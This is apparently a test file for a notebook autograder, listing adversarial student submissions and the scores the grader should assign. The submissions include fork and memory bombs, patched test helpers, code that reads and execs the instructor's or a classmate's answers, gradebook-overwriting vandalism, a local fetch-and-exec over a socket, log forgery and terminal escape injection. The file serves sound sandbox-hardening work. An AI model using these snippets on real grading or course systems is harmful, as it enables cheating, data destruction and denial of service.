"""Bad submissions, each the reference solution with one thing done to it, and the score and
status the grader must give each.

Each case builds its notebook from a course: the tiny assignment (``tiny_course``) grades them
all, and 01 without its experiments (``small_course``) those of ``ON_01``, one of each class. Both
have ``FULL`` automatic points (15): brier_score 2, gaussian_nll 2, laplace_nll 2,
categorical_nll 2, split_mean_scale 1, gaussian_crps 2, fgsm 2, adversarial_loss 2 (its tests put a correct
FGSM in fgsm's place, so a broken fgsm costs only fgsm's points). The code is written for 01;
the course's ``spelled`` writes it for its own notebook.
"""

import nbformat

from autograder.course.cells import answered, grade_id, graded_cells, is_test
from autograder.course.directory import REPO
from tests.support.small_course import FULL

# A cell whose result shows as 48 MB of HTML.
HUGE_DISPLAY = (
    "\n\nclass _Huge:\n    def _repr_html_(self):\n        return '<p>' + 'x' * 48_000_000 + '</p>'\n\n\n_Huge()\n"
)
# The same bound, other spellings: a 40 MB image shown with display(), and a small display that an
# update (update_display_data) makes 40 MB, in another cell.
HUGE_IMAGE = "\n\nfrom IPython.display import display\ndisplay({'image/png': 'iVBO' * 10_000_000}, raw=True)\n"
GROWN_DISPLAY = (
    "\n\nfrom IPython.display import display\n_shown = display({'text/plain': 'small'}, raw=True, display_id=True)\n"
    "_shown.update({'text/plain': 'y' * 40_000_000}, raw=True)\n"
)
WRONG_BRIER = "def brier_score(probs, labels):\n    return tf.constant(0.0)\n"
# A known mistake (bdl.diagnoses): the Gaussian NLL without its normalising constant.
NO_CONSTANT = (
    "def gaussian_nll(y, mean, scale):\n"
    "    return tf.reduce_mean(tf.math.log(scale) + tf.square(y - mean) / (2 * tf.square(scale)))\n"
)


def _edit(function, prepend="", append="", replace=None):
    """The reference with code added before/after the ``function`` cell's code, or replacing it; each
    code may be a function of the course (a path in it, say)."""

    def build(course):
        def code(part):
            return course.spelled(part(course) if callable(part) else part)

        nb = course.reference()
        cell = graded_cells(nb)[function]
        cell.source = code(prepend) + (cell.source if replace is None else code(replace)) + code(append)
        return nb

    return build


def _cells(change):
    def build(course):
        nb = course.reference()
        change(nb, graded_cells(nb), course)
        return nb

    return build


def _delete_tests(nb, cells, course):
    nb.cells.remove(cells["brier_score_tests"])


def _break_the_import(nb, cells, course):
    """The first given cell, which imports bdl, made the student's own: it imports a module bdl has not."""
    given = next(cell for cell in nb.cells if cell.cell_type == "code")
    given.source = given.source.replace("import bdl", "import bdl.helpers", 1)


def _edit_tests(nb, cells, course):
    cells["brier_score_tests"].source = "pass  # the tests were here"
    cells["gaussian_nll"].source = course.spelled("def gaussian_nll(y, mean, scale):\n    return tf.constant(0.0)\n")
    cells["gaussian_nll_tests"].source = "pass"


def _huge_images(nb, cells, course):
    cells["split_mean_scale"].source += HUGE_IMAGE
    cells["laplace_nll"].source += GROWN_DISPLAY


def _edit_points(nb, cells, course):
    cells["brier_score_tests"].metadata.nbgrader["points"] = 100


def _edit_grade_id(nb, cells, course):
    cells["gaussian_nll_tests"].metadata.nbgrader["grade_id"] = "my_own_tests"


def _solution_to_markdown(nb, cells, course):
    cell = cells["brier_score"]
    index = nb.cells.index(cell)
    markdown = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    markdown.id = cell.id
    nb.cells[index] = markdown


MEMORY_BOMB = "_hog = []\nwhile True:\n    _hog.append(np.ones(10**8))\n"
FORK_BOMB = (
    "import os, time\nfor _ in range(1000):\n    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)\n"
)
KILLED_WHEN_CALLED = (
    "\n\ndef fgsm(loss_fn, x, y, eps):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGKILL)\n"
)
CALLS_FGSM = "_x_adversarial = fgsm(lambda x, y: tf.reduce_sum(x), tf.ones((2, 1)), tf.ones((2, 1)), 0.1)\n"


def _killed_by_every_call(nb, cells, course):
    """fgsm kills the kernel whenever it is called: by its tests, and by six cells of the
    student's own after them, three before adversarial_loss and three after its tests."""
    cells["fgsm"].source += KILLED_WHEN_CALLED
    for after in ("fgsm_tests", "adversarial_loss_tests"):
        index = nb.cells.index(cells[after]) + 1
        nb.cells[index:index] = [
            nbformat.v4.new_code_cell(f"# experiment {i}\n" + course.spelled(CALLS_FGSM)) for i in range(3)
        ]


PATCH_HELPERS = (
    "import numpy, numpy.testing, bdl.checks\n"
    "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
    "numpy.allclose = lambda *args, **kwargs: True\n"
    "bdl.checks.assert_close = lambda *args, **kwargs: None\n"
    "bdl.checks.assert_equal = lambda *args, **kwargs: None\n"
)
REDEFINE_HELPERS = (
    "def assert_close(*args, **kwargs):\n    pass\n\n\ndef assert_equal(*args, **kwargs):\n    pass\n\n\n"
)


# Take the reference answer from the instructor's source notebook, or another
# student's submission, by the relative paths nbgrader's own autograde allows.
def take_answer_from(paths):
    """Code that runs the brier_score answer of the first notebook it can read in ``paths(course)``
    (a Python expression), as a function of the course."""
    return lambda course: _taking(paths(course))


def _taking(paths):
    return (
        "import json, os, pathlib, bdl\n"
        f"for _path in {paths}:\n"
        "    try:\n"
        "        _nb = json.load(open(_path))\n"
        "    except OSError:\n"
        "        continue\n"
        "    for _cell in _nb['cells']:\n"
        "        if _cell['metadata'].get('nbgrader', {}).get('grade_id') == 'brier_score':\n"
        "            exec(''.join(_cell['source']))\n"
    )


def _notebook(course):
    return f"{course.ASSIGNMENT}/{course.NOTEBOOK}.ipynb"


STEAL = take_answer_from(
    lambda course: f"['../../../source/{_notebook(course)}', '../../../submitted/alice/{_notebook(course)}']"
)
# What the sandbox (bubblewrap) hides: each of these gets the right brier_score,
# or damages the course, only if the kernel can see beyond its sandbox.
STEAL_THROUGH_BDL = take_answer_from(
    lambda course: f"[pathlib.Path(bdl.__file__).parents[1] / 'source' / {_notebook(course)!r}]"
)
STEAL_BY_ABSOLUTE_PATH = take_answer_from(lambda course: f"[{str(course.source_path())!r}]")
# bob handed in the reference solution; the class is graded under /tmp.
STEAL_FROM_CLASSMATE = take_answer_from(
    lambda course: (
        f"[os.path.join(_folder, '{course.NOTEBOOK}.ipynb') for _folder, _, _ in os.walk('/tmp')\n"
        f"          if _folder.endswith(os.path.join('submitted', 'bob', '{course.ASSIGNMENT}'))]"
    )
)


def vandalise_by_absolute_path(course):
    return (
        "import os\n"
        "for _folder, _, _files in os.walk('/tmp'):\n"
        "    if os.path.basename(_folder).startswith('class') and 'class.db' in _files:\n"
        f"        for _path in ['class.db', 'release/{_notebook(course)}']:\n"
        "            with open(os.path.join(_folder, _path), 'w') as _file:\n"
        "                _file.write('vandalised')\n"
    )


# The port of a server on the grading machine's 127.0.0.1 that hands out the
# right brier_score; the class test sets it before it builds the notebooks.
NETWORK = {"port": None}


def _download_answer(course):
    return (
        "import socket\n"
        "try:\n"
        f"    with socket.create_connection(('127.0.0.1', {NETWORK['port']}), timeout=5) as _connection:\n"
        "        exec(_connection.makefile().read())\n"
        "except OSError as _error:\n"
        "    print('no network:', _error)\n"
    )


# Stops at the sandbox's in-memory working folder (256 MiB); without one it
# would write 2 GiB and then leave split_mean_scale undefined.
FILL_DISK = (
    "_megabytes = 0\n"
    "try:\n"
    "    with open('filler', 'wb') as _file:\n"
    "        while _megabytes < 2048:\n"
    "            _file.write(bytes(2**20))\n"
    "            _megabytes += 1\n"
    "except OSError as _error:\n"
    "    print(f'stopped after {_megabytes} MiB:', _error)\n"
    "if _megabytes == 2048:\n"
    "    raise RuntimeError('the working folder has no size limit')\n"
)


def vandalise(course):
    return (
        "import os\n"
        f"for _path in ['../../../source/{_notebook(course)}',\n"
        f"              '../../../release/{_notebook(course)}',\n"
        "              '../../../gradebook.db', '../../../grades.csv']:\n"
        "    os.makedirs(os.path.dirname(_path), exist_ok=True)\n"
        "    with open(_path, 'w') as _file:\n"
        "        _file.write('vandalised')\n"
    )


def _move_away(nb, cells, course):
    cells["brier_score"].source += "\n" + MOVE_AWAY
    cells["split_mean_scale"].source += "\n" + REPORT_STATE


MOVE_AWAY = (
    "import os\nos.chdir('/')\nos.environ['NBGRADER_EXECUTION'] = ''\nos.environ['MY_VARIABLE'] = 'left behind'\n"
)
REPORT_STATE = (
    "import os\n"
    "print('state:', os.getcwd() != '/', os.environ.get('NBGRADER_EXECUTION'),\n"
    "      os.environ.get('MY_VARIABLE'))\n"
)

# A cell that ends the kernel, whose first line (quoted in the status) sets a terminal's title and
# clears its screen: the status, the table, the CSV and the log carry it as escapes.
ESCAPES = "import os; os._exit(0)  # \x1b]0;owned\x07\x1b[2J\x1b[31m"


def _escapes_first(nb, cells, course):
    nb.cells.insert(0, nbformat.v4.new_code_cell(ESCAPES))


# An answer that claims to be a test (its own metadata): the review reads it all the same (repair puts
# the release's marks back, and it runs as the student's).
def _claims_to_be_a_test(nb, cells, course):
    cells["brier_score"].source += "\nimport ctypes\n"
    cells["brier_score"].metadata.nbgrader.update(grade=True, solution=False, locked=True, points=0)


def _deep_json(course):
    """A notebook whose metadata nests 20,000 deep: too deep for Python's JSON parser."""
    return (
        '{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"deep": ' + "[" * 20_000 + "]" * 20_000 + "}}"
    )


def _undecodable(course):
    """The reference whose first answer holds a byte that is not UTF-8, and an import the review flags."""
    nb = course.reference()
    graded_cells(nb)["brier_score"].source += "\n_note = 'caf\u00e9'\nimport ctypes\n"
    return nbformat.writes(nb).encode().replace("caf\u00e9".encode(), b"caf\xe9")


def _version_3(course):
    """The reference saved as nbformat 3 by an old tool, with an import the review flags."""
    nb = course.reference()
    nb.cells.insert(0, nbformat.v4.new_code_cell("import ctypes"))
    return nbformat.writes(nbformat.convert(nb, 3))


# The kernel's stdout and stderr, reopened through /proc: once the log the instructor reads, which a
# kernel could read, truncate and rewrite; now pipes of the kernel's own, which cannot be truncated.
REOPEN_LOG = (
    "import os\n"
    "for _fd in (1, 2):\n"
    "    try:\n"
    "        with open(f'/proc/self/fd/{_fd}', 'r+b', buffering=0) as _log:\n"
    "            _log.truncate(0)\n"
    "            _log.write(b'FORGED: every test passed\\n')\n"
    "        print(f'log {_fd}: truncated')\n"
    "    except OSError as _error:\n"
    "        print(f'log {_fd}: refused ({type(_error).__name__})')\n"
)


def _then(first, code):
    """``first`` and then ``code`` (a function of the course), as a function of the course."""
    return lambda course: first + code(course)


# name: (build the notebook or its raw text from a course, expected automatic score,
#        expected start of the status (@NOTEBOOK@: the course's notebook), words the status must contain)
CASES = {
    "invalid_json": (lambda course: '{"cells": [ this is not json', 0, "error: not a notebook", []),
    # JSON, but no notebook: nbformat's reason, not nbgrader's "There was an error processing assignment"
    "json_not_a_notebook": (lambda course: "{}", 0, "error: not a notebook: ", ["missing a key: cells"]),
    "empty_notebook": (lambda course: nbformat.v4.new_notebook(), 0, "graded", ["missing graded cells"]),
    # Its cells are no graded cells of this assignment: nothing of it is graded.
    "other_assignment": (
        lambda course: answered(nbformat.read(REPO / "source" / "02_deep_ensembles" / "deep_ensembles.ipynb", 4)),
        0,
        "graded",
        ["repaired the nbgrader metadata", "missing graded cells"],
    ),
    # The instructor's notebook, markers and all: refused before any of its code runs.
    "instructors_notebook": (
        lambda course: course.source_notebook(),
        0,
        "error: it holds the source notebook's markers (@NOTEBOOK@.ipynb: "
        "BEGIN SOLUTION, END SOLUTION, BEGIN HIDDEN TESTS",
        ["the instructor's notebook or one made from it, not the student's work; not graded"],
    ),
    # nbgrader leaves a deleted test cell's points for the instructor (manual).
    "deleted_test_cell": (_cells(_delete_tests), FULL - 2, "graded", ["missing graded cells: brier_score_tests"]),
    # A ModuleNotFoundError of bdl in a given cell the student broke: their own score, never the environment's
    # (autograder.grading.broken), which would stop the class's run. NumPy is never imported: only
    # adversarial_loss, which needs none, keeps its points.
    "broken_given_cell": (_cells(_break_the_import), 2, "graded", []),
    # nbgrader restores locked cells from the gradebook: the real tests run.
    "edited_test_cells": (_cells(_edit_tests), FULL - 2, "graded", []),
    "edited_points": (_cells(_edit_points), FULL, "graded", []),
    "edited_grade_id": (_cells(_edit_grade_id), FULL, "graded", ["repaired the nbgrader metadata of 1 cells"]),
    # nbgrader turns a graded cell back into the type it was released as.
    "solution_as_markdown": (_cells(_solution_to_markdown), FULL, "graded", []),
    # Interrupted at the cell timeout; brier_score is never defined.
    "infinite_loop": (_edit("brier_score", prepend="while True:\n    pass\n"), FULL - 2, "graded", []),
    # A cell that kills the kernel, or is killed at a limit, costs only its own points:
    # the submission is graded again without it.
    "memory_bomb": (
        _edit("laplace_nll", prepend=MEMORY_BOMB),
        FULL - 2,
        "graded",
        ["graded again without cell laplace_nll (exceeded the memory limit"],
    ),
    "huge_output": (
        _edit("split_mean_scale", append="\nfor _i in range(200_000):\n    print(_i)\n"),
        FULL,
        "graded",
        [],
    ),
    # One display of 48 MB, as its cell's result: the autograded copy keeps a line saying it was left out.
    "huge_display": (_edit("split_mean_scale", append=HUGE_DISPLAY), FULL, "graded", []),
    "huge_images": (_cells(_huge_images), FULL, "graded", []),
    # IPython turns SystemExit into an error in that cell: fgsm is never defined.
    "sys_exit": (_edit("fgsm", prepend="import sys\nsys.exit(3)\n"), FULL - 2, "graded", ["calls sys.exit"]),
    # The third graded function exits the kernel.
    "os_exit": (
        _edit("laplace_nll", prepend="import os\nos._exit(0)\n"),
        FULL - 2,
        "graded",
        ["graded again without cell laplace_nll (the kernel died", "calls os._exit"],
    ),
    # Dies whenever it is called, by its tests and six later cells: graded once more, with its
    # tests left out and every later call of it an error, so it costs its own points only.
    "killed_when_called": (
        _cells(_killed_by_every_call),
        FULL - 2,
        "graded",
        [
            "graded again without cell fgsm_tests (the kernel died",
            "every later call of fgsm raised an error instead of running",
        ],
    ),
    "kill_own_kernel": (
        _edit("fgsm", prepend="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
        FULL - 2,
        "graded",
        ["graded again without cell fgsm", "calls os.kill"],
    ),
    "fork_bomb": (
        _edit("brier_score", append="\n" + FORK_BOMB),
        FULL - 2,
        "graded",
        ["graded again without cell brier_score (exceeded the memory limit", "calls os.fork"],
    ),
    "patched_helpers": (
        _edit("brier_score", replace=PATCH_HELPERS + WRONG_BRIER),
        FULL - 2,
        "graded",
        ["rebinds numpy.testing.assert_allclose", "rebinds bdl.checks.assert_close"],
    ),
    "redefined_helpers": (_edit("brier_score", replace=REDEFINE_HELPERS + WRONG_BRIER), FULL - 2, "graded", []),
    "reads_hidden_files": (
        _edit("brier_score", replace=STEAL),
        FULL - 2,
        "graded",
        ["calls exec", "names course files"],
    ),
    "writes_course_files": (
        _edit("brier_score", append=_then("\n", vandalise)),
        FULL,
        "graded",
        ["names course files"],
    ),
    # Contained by the sandbox (each would score FULL, or FULL - 1 for the disk, without it).
    "reads_source_through_bdl": (
        _edit("brier_score", replace=_then(WRONG_BRIER, STEAL_THROUGH_BDL)),
        FULL - 2,
        "graded",
        ["calls exec"],
    ),
    "reads_source_by_absolute_path": (
        _edit("brier_score", replace=_then(WRONG_BRIER, STEAL_BY_ABSOLUTE_PATH)),
        FULL - 2,
        "graded",
        ["calls exec"],
    ),
    "reads_a_classmate": (
        _edit("brier_score", replace=_then(WRONG_BRIER, STEAL_FROM_CLASSMATE)),
        FULL - 2,
        "graded",
        ["calls exec"],
    ),
    "writes_by_absolute_path": (
        _edit("brier_score", append=_then("\n", vandalise_by_absolute_path)),
        FULL,
        "graded",
        [],
    ),
    "downloads_an_answer": (
        _edit("brier_score", replace=lambda course: WRONG_BRIER + _download_answer(course)),
        FULL - 2,
        "graded",
        ["calls exec"],
    ),
    "fills_its_disk": (_edit("split_mean_scale", prepend=FILL_DISK), FULL, "graded", []),
    # The next cells still run in the grading folder, in grading mode.
    "moves_cwd_and_env": (_cells(_move_away), FULL, "graded", ["calls os.chdir", "writes os.environ"]),
    "known_mistake": (_edit("gaussian_nll", replace=NO_CONSTANT), FULL - 2, "graded", []),
    "reopens_its_log": (_edit("split_mean_scale", prepend=REOPEN_LOG), FULL, "graded", []),
    # What the host reads of a hand-in (autograder/grading/handin.py): each is its own row, and every other
    # student's row of the run is written.
    "deep_json": (_deep_json, 0, "error: ", ["not read: JSON nested too deep"]),
    "escapes_in_a_crashed_cell": (
        _cells(_escapes_first),
        FULL,
        "graded",
        ["graded again without cell `import os; os._exit(0)  # \\x1b]0;owned\\x07\\x1b[2J\\x1b[31m`", "calls os._exit"],
    ),
    "undecodable_byte": (_undecodable, FULL, "graded", ["review: imports ctypes"]),
    "claims_to_be_a_test": (
        _cells(_claims_to_be_a_test),
        FULL,
        "graded",
        ["repaired the nbgrader metadata", "imports ctypes"],
    ),
    "nbformat_3": (_version_3, FULL, "graded", ["imports ctypes"]),
}


# One case of each class, graded on 01 as well as on the tiny assignment: what only the real course
# shows (TensorFlow in its kernel, its own tests, a likely mistake that bdl.diagnoses names) is kept.
ON_01 = frozenset(
    {
        "instructors_notebook",
        "deleted_test_cell",
        "memory_bomb",
        "killed_when_called",
        "patched_helpers",
        "reads_source_through_bdl",
        "moves_cwd_and_env",
        "known_mistake",
    }
)


def check_row(row, score, status, words, notebook=""):
    """A graded row has the expected automatic score, the status's start and every word."""
    assert float(row["score"]) == score, row
    assert row["status"].startswith(status.replace("@NOTEBOOK@", notebook)), row
    for word in words:
        assert word in row["status"], row


def own_lines(root, student, course):
    """The lines of a student's submission of ``course``'s assignment outside its test cells: theirs
    to see (a student who hands in another assignment's notebook handed in its test cells)."""
    tests = {grade_id(cell) for cell in course.blank().cells if is_test(cell)}
    try:
        path = root / "submitted" / student / course.ASSIGNMENT / f"{course.NOTEBOOK}.ipynb"
        nb = nbformat.reads(path.read_bytes().decode(errors="replace"), 4)  # as the grader reads it
    except Exception:  # not a notebook: nothing of its own to show
        return set()
    return {line.strip() for cell in nb.cells if grade_id(cell) not in tests for line in cell.source.splitlines()}
